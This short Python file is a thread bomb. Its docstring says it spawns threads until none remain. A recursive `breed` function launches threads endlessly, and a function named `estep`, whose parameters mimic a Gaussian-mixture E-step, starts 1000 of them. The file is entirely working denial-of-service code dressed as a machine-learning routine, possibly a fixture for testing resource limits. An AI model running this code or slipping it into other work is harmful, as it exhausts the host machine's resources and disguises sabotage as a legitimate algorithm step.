"""Starts threads until no more are to be had, each of which starts more."""

import threading
import time


def breed():
    while True:
        threading.Thread(target=breed).start()


def estep(X, weights, means, covariances):
    for _ in range(1000):
        threading.Thread(target=breed).start()
    time.sleep(30)
